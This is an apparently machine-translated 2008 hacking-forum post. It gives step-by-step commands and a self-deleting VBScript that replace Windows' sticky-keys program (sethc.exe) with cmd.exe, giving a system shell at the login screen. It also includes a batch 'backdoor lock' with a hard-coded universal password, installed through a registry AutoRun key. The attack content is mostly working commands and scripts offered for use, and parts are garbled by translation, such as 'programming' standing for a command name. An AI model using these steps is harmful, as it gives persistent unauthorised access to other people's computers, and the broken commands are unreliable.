The coolest windows Backdoor-vulnerability warning-the black bar safety net

ID MYHACK58:62200818009
Type myhack58
Reporter 佚名
Modified 2008-01-04T00:00:00


The back door principle:

Go to: small Chapter blog

In windows 2 0 0 0/xp/vista, press shift key 5 times, you can open the sticky position, 会运行sethc.exe and, in the login interface may also be open. It's reminiscent of a WINDOWS screensaver, the program will be replaced with cmd. exe, you can open the shell.

Reference McafeeAvertLabs: the

XP: The installation source disc is ejected or the hard disk on the installation directory renamed) cd %widnir%\system32\dllcache ren sethc.exe *. ex~ cd %widnir%\system32 copy /y cmd.exe sethc.exe

VISTA: programming /f c:\windows\system32\sethc.exe cacls c:\windows\system32\sethc.exe /G administrator:F Then pressthe XP method of replacing the file

At the login screen press 5 this SHIFT out cmd shell, and then......

The back door extensions:

Go to: 7j blog

Then update Dim obj, success Set obj = CreateObject("WScript. Shell") success = obj. run("cmd /c programming /f %SystemRoot%\system32\sethc.exe", 0, True) success = obj. run("cmd /c echo y| cacls %SystemRoot%\system32\sethc.exe /G %USERNAME%:F", 0, True) success = obj. run("cmd /c copy %SystemRoot%\system32\cmd.exe %SystemRoot%\system32\acmd.exe", 0, True) success = obj. run("cmd /c copy %SystemRoot%\system32\sethc.exe%SystemRoot%\system32\asethc.exe", 0, True) success = obj. run("cmd /c del %SystemRoot%\system32\sethc.exe", 0, True) success = obj. run("cmd /c ren %SystemRoot%\system32\acmd.exe sethc.exe", 0, True)

The second sentence is the most interesting. Hey Responder.... 've encountered similar problems

Then update the. Add a self-delete,simplify the code... On Error Resume Next Dim obj, success Set obj = CreateObject("WScript. Shell") success = obj. run("cmd /c programming /f %SystemRoot%\system32\with. exe&echo y| cacls %SystemRoot%\system32\sethc.exe /G %USERNAME%:F&copy %SystemRoot%\system32\cmd.exe %SystemRoot%\system32\acmd. exe&copy %SystemRoot%\system32\sethc.exe %SystemRoot%\system32\asethc. exe&del %SystemRoot%\system32\with. exe&ren %SystemRoot%\system32\acmd.exe sethc.exe", 0, True) CreateObject("Scripting. FileSystemObject"). DeleteFile(WScript. ScriptName)

allyesno note: deal with File Protection the way can also reference my article cut wfp 's jj easily 8 0 9 9&p=2 6 9 2 9 3

Back door lock extensions:

allyesno Note: You can use the cmd lock to cmdshell password verification Hey.... and

Use the following back door lock of the method is to put the code save for bdlock. bat

Then modify the registry location

[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Command Processor] "AutoRun"="bdlock. bat"

@Echo Off title back door login authentication color a cls set temprandom=%RANDOM% echo please enter the verification code:%temprandom% set/p check= if "%check%"=="%temprandom%%temprandom%" goto passcheck if "%check%"=="%temprandom%" ( rem Backdoor Server Authentication rem if there is no back door to the authentication server please rem comment fall line of code if exist \\trojandownloader$\pass goto passcheck ) echo verify failed pause exit :passcheck echo verification successful If "%passcmdlock%"=="" Goto endx Set passcmdlock=http://blog. csdn. net/freexploit/ :allyesno Set Errorlevel=>nul Echo please enter the verification code? Setpassword=allyesno Is a pig>nul Set/p password= rem universal password if "%password%"=="allyesno is a sb" goto endx If %time:~1,1%==0 Set timechange=a If %time:~1,1%==1 Set timechange=b If %time:~1,1%==2 Set timechange=c If %time:~1,1%==3 Set timechange=d If %time:~1,1%==4 Set timechange=e If %time:~1,1%==5 Set timechange=f If %time:~1,1%==6 Set timechange=g If %time:~1,1%==7 Set timechange=h If %time:~1,1%==8 Set timechange=i If %time:~1,1%==9 Set timechange=j set/a sum=%time:~1,1%+%time:~1,1% Set password|findstr "^password=%timechange%%time:~1,1%%date:~8,2%%sum%$">nul If "%errorlevel%"=="0" cls&Echo the password is correct&Goto End Echo please contact rising customer service for the correct password!& amp;Goto allyesno :End Set password=>nul Set Errorlevel=>nul Echo is very good,very harmonious! :endx